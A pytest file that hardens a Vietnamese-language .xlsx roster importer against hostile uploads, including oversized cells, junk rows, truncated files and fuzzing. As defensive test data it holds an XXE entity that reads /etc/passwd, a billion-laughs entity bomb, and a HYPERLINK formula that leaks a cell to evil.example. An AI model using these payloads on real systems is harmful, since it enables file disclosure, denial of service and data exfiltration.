"""Hostile roster workbooks (issue 20, findings 3 and 7): bounded reading of .xlsx.

Every case is a file someone could upload: a cell at the sheet's last address, a 50 MB
cell, 20,000 junk rows, a truncated file, a DTD or entities in a sheet or workbook.xml.
Each ends in a located Vietnamese message (or a clean import), never a traceback, within
a time bound and under ``PEAK_LIMIT_MB`` (measured in a child process, tests/bounded.py).
A fuzz of mutated rosters checks that nothing else than a clean result or a located
``InputError`` ever comes out of ``read_roster``.
"""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from docgen.errors import InputError
from docgen.workspace import load_workspace
from docgen.xlsx import (
    EXPORT_HEADERS,
    MAX_CELL_CHARS,
    MAX_LISTED,
    MAX_ROWS,
    export_workbook,
    read_roster,
)
from tests.bounded import PEAK_LIMIT_MB, run_bounded
from tests.conftest import REPO

CELL = "to-dan-pho-5"
SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture(scope="module")
def roster() -> bytes:
    """The sample cell's roster as docgen exports it: a valid workbook to spoil."""
    ws = load_workspace(REPO / "data")
    return export_workbook(ws, ws.load_cell(CELL))


def rezip(data: bytes, edits: dict[str, bytes | None]) -> bytes:
    """``data`` with parts replaced (``None``: removed) or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in edits:
                continue
            dst.writestr(info.filename, src.read(info.filename))
        for name, body in edits.items():
            if body is not None:
                dst.writestr(name, body)
    return out.getvalue()


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def with_cell(data: bytes, ref: str, text: str) -> bytes:
    """The roster with cell ``ref`` of row 4 (the first member) replaced by an inline string."""
    sheet = part(data, SHEET).decode()
    cell = f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'
    sheet, count = re.subn(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', cell, sheet, count=1)
    assert count == 1
    return rezip(data, {SHEET: sheet.encode()})


def with_doctype(data: bytes, name: str, doctype: str) -> bytes:
    body = part(data, name)
    end = body.index(b"?>") + 2 if body.startswith(b"<?xml") else 0
    return rezip(data, {name: body[:end] + doctype.encode() + body[end:]})


def bounded_import(tmp_path: Path, ws: Path, content: bytes, timeout: float = 60) -> str:
    """``docgen roster import`` of ``content`` in a child under a memory ceiling: refused
    (exit 1) or imported (exit 0), never a traceback, fast and small. The output."""
    target = tmp_path / "danh-sach.xlsx"
    target.write_bytes(content)
    run = run_bounded(
        ["roster", "import", str(target), "--chi-bo", CELL, "-w", str(ws)], tmp_path, timeout=timeout
    )
    assert run.seconds < timeout, f"took {run.seconds:.0f} s"
    assert "Traceback" not in run.output and "Error" not in run.output, run.output[-2000:]
    assert run.peak_mb < PEAK_LIMIT_MB, f"peak {run.peak_mb:.0f} MB"
    assert run.returncode in (0, 1), run.output[-2000:]
    return f"exit {run.returncode}\n{run.output}"


# ------------------------------------------------------------------ reproductions


def test_a_cell_at_the_last_address_is_not_read_and_said(roster: bytes, sample_ws: Path, tmp_path: Path) -> None:
    """Finding 3: one cell at XFD1048576 (an 8 KB file) made openpyxl build every row up to
    max_row: 65 s, then MemoryError. Now the rows end at the last value within 50 columns;
    the far cell is not read and a warning says where it is."""
    book = load_workbook(io.BytesIO(roster))
    book.active["XFD1048576"] = "x"
    buffer = io.BytesIO()
    book.save(buffer)
    assert len(buffer.getvalue()) < 16_000
    out = bounded_import(tmp_path, sample_ws, buffer.getvalue(), timeout=30)
    assert out.startswith("exit 0"), out
    assert "Cảnh báo: danh-sach.xlsx: trang tính 'Danh sách đảng viên', ô XFD1048576: có dữ liệu sau cột AX" in out


def test_data_far_below_the_roster_is_refused(roster: bytes, sample_ws: Path, tmp_path: Path) -> None:
    book = load_workbook(io.BytesIO(roster))
    book.active["C1048576"] = "x"
    buffer = io.BytesIO()
    book.save(buffer)
    out = bounded_import(tmp_path, sample_ws, buffer.getvalue(), timeout=30)
    assert out.startswith("exit 1"), out
    assert (
        "danh-sach.xlsx: trang tính 'Danh sách đảng viên', dòng 1048576: có dữ liệu tới dòng 1048576, "
        f"quá giới hạn {MAX_ROWS} dòng của một danh sách"
    ) in out


def test_a_50_mb_cell_is_refused_small(roster: bytes, sample_ws: Path, tmp_path: Path) -> None:
    """Finding 3: one 50 MB cell in a 59 KB file took 37 s and 2.3 GB."""
    content = with_cell(roster, "C4", "A" * 50_000_000)
    assert len(content) < 200_000
    out = bounded_import(tmp_path, sample_ws, content, timeout=30)
    assert out.startswith("exit 1"), out
    assert f"Lỗi: danh-sach.xlsx: tệp Excel không đọc được: phần {SHEET}: " in out
    assert "giải nén ra 48 MB, quá giới hạn 32 MB cho một phần" in out


def test_a_long_cell_is_refused_at_its_row_and_column(roster: bytes) -> None:
    content = with_cell(roster, "C4", "A" * (MAX_CELL_CHARS + 1))
    sheet = _read(content)
    assert [p.format() for p in sheet.problems] == [  # type: ignore[attr-defined]
        f"danh-sach.xlsx: dòng 4, cột C (Họ và tên): dài {MAX_CELL_CHARS + 1} ký tự, quá giới hạn "
        f"{MAX_CELL_CHARS} ký tự của một ô"
    ]


def _read(content: bytes, tmp: Path | None = None) -> object:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / "danh-sach.xlsx"
        target.write_bytes(content)
        return read_roster(target, "danh-sach.xlsx")


def junk_rows(count: int) -> bytes:
    """A header, then ``count`` rows of junk in every column (538 KB for 20,000)."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Danh sách")
    sheet.append(EXPORT_HEADERS)
    rng = random.Random(20)
    for i in range(count):
        sheet.append([f"x{rng.randrange(10**6)}" for _ in range(len(EXPORT_HEADERS))] if i % 7 else [i, "An", "?"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_twenty_thousand_junk_rows_end_in_seconds_and_a_short_report(sample_ws: Path, tmp_path: Path) -> None:
    """Finding 3: 20,000 junk rows (538 KB) took over 300 s (max_column recomputed for
    every row). Now linear, and the report lists the first problems and counts the rest."""
    content = junk_rows(20_000)
    out = bounded_import(tmp_path, sample_ws, content, timeout=60)
    assert out.startswith("exit 1"), out
    lines = [line for line in out.splitlines() if line.startswith("Lỗi: ")]
    assert len(lines) == MAX_LISTED + 1
    assert all(line.startswith("Lỗi: danh-sach.xlsx: dòng ") for line in lines[:-1]), lines[:3]
    assert re.fullmatch(
        r"Lỗi: danh-sach\.xlsx: sau dòng \d+, cột .*: còn \d+ ô lỗi khác, đến dòng 20001, cột . \(.*\), "
        r"không liệt kê ra đây \(sửa các ô đã liệt kê rồi nhập lại để xem tiếp\)",
        lines[-1],
    ), lines[-1]


def test_a_truncated_workbook_is_said_damaged(roster: bytes, sample_ws: Path, tmp_path: Path) -> None:
    """Finding 7: a truncated .xlsx ended in a traceback."""
    out = bounded_import(tmp_path, sample_ws, roster[: len(roster) // 2], timeout=30)
    assert out.startswith("exit 1"), out
    assert "Lỗi: danh-sach.xlsx: không đọc được tệp Excel .xlsx: tệp không phải dạng .xlsx hoặc bị hỏng" in out


def test_a_truncated_sheet_is_located_in_its_part(roster: bytes) -> None:
    sheet = part(roster, SHEET)
    with pytest.raises(InputError) as caught:
        _read(rezip(roster, {SHEET: sheet[: len(sheet) // 2]}))
    (line,) = caught.value.lines()
    assert re.fullmatch(
        rf"danh-sach\.xlsx: tệp Excel không đọc được: phần {SHEET}: XML hỏng ở dòng \d+, cột \d+ "
        r"\(mở tệp bằng Excel rồi lưu lại dạng \.xlsx \(Excel Workbook\)\)",
        line,
    ), line


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(2, 10))
    + "]>"
)


@pytest.mark.parametrize("name", [SHEET, "xl/workbook.xml"])
@pytest.mark.parametrize("doctype", ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', LAUGHS])
def test_a_doctype_in_a_sheet_or_the_workbook_is_refused(
    roster: bytes, sample_ws: Path, tmp_path: Path, name: str, doctype: str
) -> None:
    """Finding 7: a DTD or entities in a sheet or workbook.xml ended in ParseError /
    XMLSyntaxError tracebacks."""
    out = bounded_import(tmp_path, sample_ws, with_doctype(roster, name, doctype), timeout=30)
    assert out.startswith("exit 1"), out
    assert (
        f"Lỗi: danh-sach.xlsx: tệp Excel không đọc được: phần {name}: có khai báo DOCTYPE (DTD, thực thể), "
        "văn bản Office không dùng tới"
    ) in out


# ------------------------------------------------------------------ formulas


def test_a_formula_cell_is_read_as_its_text_and_flagged(roster: bytes) -> None:
    """Finding 4: an imported formula is its text, with a located warning."""
    book = load_workbook(io.BytesIO(roster))
    book.active["I5"] = '=HYPERLINK("http://evil.example/?leak="&C5,"Bí thư")'
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = _read(buffer.getvalue())
    assert sheet.rows[1].values["chuc_vu"] == '=HYPERLINK("http://evil.example/?leak="&C5,"Bí thư")'  # type: ignore[attr-defined]
    assert [p.format() for p in sheet.warnings] == [  # type: ignore[attr-defined]
        "danh-sach.xlsx: dòng 5, cột I (Chức vụ): ô chứa công thức «=HYPERLINK(\"http://evil.example/?leak=\"&C5,"
        "\"Bí thư\")»; docgen đọc nguyên văn công thức như chữ, không tính (ghi giá trị vào ô thay cho công "
        "thức (Sao chép, Dán giá trị))"
    ]


# ------------------------------------------------------------------ fuzz


def _mutations(roster: bytes, rng: random.Random) -> Callable[[], bytes]:
    def flip_bytes() -> bytes:
        data = bytearray(roster)
        for _ in range(rng.randint(1, 8)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        return bytes(data)

    def truncate() -> bytes:
        return roster[: rng.randrange(len(roster))]

    def edit_part() -> bytes:
        with zipfile.ZipFile(io.BytesIO(roster)) as archive:
            names = archive.namelist()
        name = rng.choice(names)
        body = bytearray(part(roster, name))
        how = rng.randrange(4)
        if how == 0 and body:
            for _ in range(rng.randint(1, 5)):
                body[rng.randrange(len(body))] = rng.choice(b'<>&"=/ 0123456789Az\x00\xff')
        elif how == 1:
            body = body[: rng.randrange(len(body) + 1)]
        elif how == 2:
            return rezip(roster, {name: None})
        else:
            cut = rng.randrange(len(body) + 1)
            body[cut:cut] = rng.choice([b"<x>", b"</row>", b'<c r="ZZZ9"><v>1</v></c>', b"&amp;", b"<!--"])
        return rezip(roster, {name: bytes(body)})

    def huge_dimensions() -> bytes:
        sheet = part(roster, SHEET).decode()
        far = f"{rng.choice(['A', 'Z', 'AX', 'AY', 'XFD'])}{rng.choice([1, 4, 19_999, 20_001, 1_048_576])}"
        sheet = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="A1:{far}"', sheet)
        if rng.random() < 0.5:
            sheet = re.sub(r'<row r="(\d+)"', lambda m: f'<row r="{int(m.group(1)) * rng.choice([1, 1000, 10**5])}"', sheet)
        if rng.random() < 0.5:
            sheet = sheet.replace("</sheetData>", f'<row r="{rng.randrange(1, 2_000_000)}"><c r="{far}"><v>1</v></c></row></sheetData>')
        return rezip(roster, {SHEET: sheet.encode()})

    return rng.choice([flip_bytes, truncate, edit_part, huge_dimensions])


def _fuzz(roster: bytes, count: int, seed: int) -> None:
    rng = random.Random(seed)
    for i in range(count):
        content = _mutations(roster, rng)()
        try:
            _read(content)
        except InputError as exc:
            lines = exc.lines()
            assert lines and all(line.startswith("danh-sach.xlsx: ") for line in lines), (i, lines)


def test_fuzz_short(roster: bytes) -> None:
    _fuzz(roster, 60, seed=1)


@pytest.mark.slow
def test_fuzz_long(roster: bytes) -> None:
    _fuzz(roster, 1500, seed=2)
